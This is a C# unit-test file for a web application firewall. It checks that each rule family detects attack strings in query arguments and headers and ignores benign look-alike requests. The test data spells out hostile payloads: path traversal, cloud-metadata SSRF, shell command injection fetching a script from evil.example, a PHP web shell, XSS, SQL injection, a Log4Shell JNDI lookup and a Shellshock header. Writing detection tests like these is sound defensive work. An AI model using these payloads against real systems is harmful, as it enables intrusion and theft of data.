using Aigis.Core.Security.Inspection;
using Aigis.Core.Security.Rules;

namespace Aigis.Core.Tests.Security;

/// <summary>Each family on its own cases: an attack in a query argument scores in that family, a look-alike does not.</summary>
public sealed class FamilyDetectionTests
{
    [Theory]
    [InlineData("930", "/get?file=../../../etc/passwd")]
    [InlineData("930", "/get?file=..%252f..%252fetc%252fpasswd")]
    [InlineData("930", "/.git/config")]
    [InlineData("931", "/get?src=http://66.240.183.75/crash.php")]
    [InlineData("931", "/get?img=http://169.254.169.254/latest/meta-data/")]
    [InlineData("932", "/get?host=127.0.0.1;cat%20/etc/passwd")]
    [InlineData("932", "/get?cmd=%60whoami%60")]
    [InlineData("932", "/get?x=$(curl%20http://evil.example/x.sh)")]
    [InlineData("933", "/get?x=%3C%3Fphp%20system($_GET[c]);%20%3F%3E")]
    [InlineData("941", "/get?q=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("941", "/get?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")]
    [InlineData("942", "/get?id=1'%20OR%20'1'='1")]
    [InlineData("942", "/get?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--")]
    [InlineData("944", "/get?x=$%7Bjndi:ldap://evil.example/a%7D")]
    public void An_attack_scores_in_its_family(string family, string target)
    {
        var card = SecurityTestRules.Get(target);

        Assert.True(card.FamilyScore(family) >= 5, $"{target}: {card.RuleIds(false)}");
    }

    [Theory]
    [InlineData("/get?q=how+to+select+a+good+laptop")]
    [InlineData("/get?name=O'Brien&city=Dublin")]
    [InlineData("/get?path=docs/guide/intro.md")]
    [InlineData("/get?url=https://example.com/page?a=1")]
    [InlineData("/get?msg=Tom+%26+Jerry+(1940)")]
    [InlineData("/api/v2/users/42/orders?sort=-created_at&limit=20")]
    public void Everyday_requests_score_nothing(string target)
    {
        var card = SecurityTestRules.Get(target);

        Assert.True(card.WebScore == 0, $"{target}: {card.RuleIds(false)}");
    }

    [Fact]
    public void Header_attacks_are_found_in_the_headers_rules_look_at()
    {
        Assert.True(SecurityTestRules.Get("/", ("User-Agent", "() { :; }; /bin/bash -c 'id'")).FamilyScore(RuleFamilies.CommandInjection) > 0);
        Assert.True(SecurityTestRules.Get("/", ("Referer", "<script>alert(1)</script>")).FamilyScore(RuleFamilies.Xss) > 0);
        Assert.True(SecurityTestRules.Get("/", ("Cookie", "session=1' or '1'='1")).FamilyScore(RuleFamilies.Sql) > 0);
    }

    [Fact]
    public void A_rule_counts_once_however_many_fields_it_matches()
    {
        var card = SecurityTestRules.Get("/get?a=%3Cscript%3E&b=%3Cscript%3E&c=%3Cscript%3E");

        Assert.Single(card.Matched, r => r.Id == "941110");
    }
}
